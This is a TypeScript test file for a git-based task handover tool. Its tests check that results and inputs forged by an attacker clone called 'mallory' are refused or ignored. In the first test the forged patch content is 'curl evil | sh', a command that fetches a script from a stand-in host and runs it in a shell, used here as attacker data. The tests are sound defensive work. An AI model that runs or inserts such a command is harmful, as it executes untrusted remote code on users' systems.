// A handover's inputs and results belong to the task: the "created" step names the inputs commit,
// the holder's done/failed step names the results commit, and readers take exactly those, never
// whatever refs/handoff/inputs/<id> or refs/handoff/results/<id> holds since. Someone who never
// held the task (here "mallory", a clone that can push anything) cannot swap either.
// Real clones of one remote over smart HTTP, the real CLI, records forged with git plumbing.
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { cleanEnv, cli, gitOut } from "./support/repo.ts";
import { amendRecord, commit, eventMessage, FORMAT, tree } from "./support/forge.ts";
import { finishAs, handOver, onceWorker, remoteForFile, script } from "./support/handover.ts";
import { storeClaim, storeDone, storeSync, storeTasks } from "./support/seed.ts";

const net = remoteForFile(test, "binding");

const result = (task: string, output: string, files: Record<string, string>, worker = "honest") => ({
  task,
  status: "done",
  output,
  output_cut: 0,
  reason: null,
  exit_code: 0,
  files: Object.entries(files).map(([name, t]) => ({ name, size: t.length })),
  refused: [],
  worker,
  machine: null,
  at: new Date().toISOString(),
});

/** One more commit on `ref` in `repo` holding `file` (and `files/`), authored as `author`, set here and pushed. */
function appendBundle(repo: string, ref: string, file: string, record: unknown, files: Record<string, string>, author: string): string {
  const t = tree(repo, { format: FORMAT, [file]: JSON.stringify(record, null, 2) + "\n", ...(Object.keys(files).length ? { files: { tree: tree(repo, files) } } : {}) });
  const parent = gitOut(repo, "for-each-ref", "--format=%(objectname)", ref) || null;
  const c = commit(repo, { tree: t, parent, author, message: `forged ${ref}\n` });
  gitOut(repo, "update-ref", ref, c);
  gitOut(repo, "push", "-q", "origin", `${c}:${ref}`);
  return c;
}

test("a result pushed after the holder finished is not the task's result: wait prints and saves the holder's", async () => {
  const victim = net.clone("m1");
  const honest = net.clone("m2");
  const attacker = net.clone("m3");
  // The task's honest life in-process (support/seed.ts): the attacker's result on top is the subject.
  await storeTasks({ cwd: victim, agent: "vic", push: true }, [{ id: "t-res", objective: "make a patch" }]);
  await storeSync({ cwd: honest, agent: "honest" });
  await storeClaim({ cwd: honest, agent: "honest", push: true }, "t-res");
  await finishAs(honest, "honest", result("t-res", "honest output\n", { "fix.patch": "honest patch" }), { "fix.patch": "honest patch" });
  // The attacker, who never held it, appends its own result (claiming to be the worker) on top.
  await storeSync({ cwd: attacker, agent: "mallory" });
  appendBundle(attacker, "refs/handoff/results/t-res", "result.json", result("t-res", "EVIL OUTPUT\n", { "fix.patch": "curl evil | sh" }), { "fix.patch": "curl evil | sh" }, "honest");
  const r = cli(["wait", "--id", "t-res", "--json"], { cwd: victim, agent: "vic" });
  assert.is(r.code, 0, r.stderr);
  const out = JSON.parse(r.stdout);
  assert.is(out.output, "honest output\n");
  assert.is(out.unverified, false);
  assert.is(readFileSync(join(victim, "handoff-t-res", "fix.patch"), "utf8"), "honest patch");
  assert.not.match(r.stdout + r.stderr, /EVIL|curl/);
});

test("a step on a finished task that names other results, or reopens it, is refused on receive", async () => {
  const victim = net.clone("m1");
  const attacker = net.clone("m3");
  await storeTasks({ cwd: victim, agent: "vic", push: true }, [{ id: "t-step", objective: "x" }]);
  await storeClaim({ cwd: victim, agent: "vic", push: true }, "t-step");
  await storeDone({ cwd: victim, agent: "vic", push: true }, "t-step");
  const before = gitOut(victim, "rev-parse", "refs/handoff/tasks/t-step");
  await storeSync({ cwd: attacker, agent: "mallory" });
  const forged = appendBundle(attacker, "refs/handoff/results/t-step", "result.json", result("t-step", "EVIL\n", {}), {}, "mallory");
  const at = new Date().toISOString();
  const event = { type: "depended", task: "t-step", agent: "mallory", at, scope: "worktree", worktree: null, branch: null, on: "t-other" };
  amendRecord(attacker, "refs/handoff/tasks/t-step", (t) => (t.result = { ...t.result, results: forged }), { author: "mallory", message: eventMessage(event) });
  gitOut(attacker, "push", "-q", "origin", "refs/handoff/tasks/t-step");
  const s = cli(["sync", "--json"], { cwd: victim, agent: "vic" });
  assert.match(s.stdout + s.stderr, /changed t-step after it was done/);
  assert.is(gitOut(victim, "rev-parse", "refs/handoff/tasks/t-step"), before, "the victim's task ref is as it was");
  const w = cli(["wait", "--id", "t-step", "--json"], { cwd: victim, agent: "vic" });
  assert.not.match(w.stdout, /EVIL/);
});

test("inputs swapped after the task was created: refused on receive, and a reader takes the ones the task names", async () => {
  const victim = net.clone("m1");
  const honest = net.clone("m2");
  const attacker = net.clone("m3");
  await handOver(victim, "vic", "t-in", { "in.txt": "victim input" });
  // A fresh clone takes t-in in (and refuses t-step, which the test before forged on this remote).
  const got = cli(["sync", "--json"], { cwd: attacker, agent: "mallory" });
  assert.not.ok((got.json.quarantined as { ref: string }[]).some((q) => q.ref.endsWith("/t-in")), got.stdout);
  appendBundle(attacker, "refs/handoff/inputs/t-in", "inputs.json", { task: "t-in", context: [], files: [{ name: "in.txt", size: 14 }] }, { "in.txt": "ATTACKER INPUT" }, "vic");
  // The attacker's own clone holds the forged commit on its ref; the reader still takes the task's.
  const { openStore } = await import("../src/store/store.ts");
  const { loadInputs } = await import("../src/work/handover.ts");
  const store = await openStore({ cwd: attacker, agent: "mallory", env: cleanEnv(), offline: true });
  try {
    const got = await loadInputs(store, "t-in", { pull: false });
    assert.is(got?.files.get("in.txt")?.toString(), "victim input");
    assert.is(got?.unverified, false);
  } finally {
    store.close();
  }
  // Another clone refuses the commit on top of the inputs, and its worker runs on the victim's.
  const s = cli(["sync"], { cwd: honest, agent: "honest" });
  assert.match(s.stdout + s.stderr, /inputs are written once/);
  const w = onceWorker(honest, script(`echo "the input said: $(cat "$HANDOFF_IN_DIR/in.txt")"`), "honest");
  assert.is(await w.exited, 0, w.stderr());
  const r = cli(["wait", "--id", "t-in", "--json"], { cwd: victim, agent: "vic" });
  assert.is(r.code, 0, r.stderr);
  assert.is(JSON.parse(r.stdout).output, "the input said: victim input\n");
});

test.run();
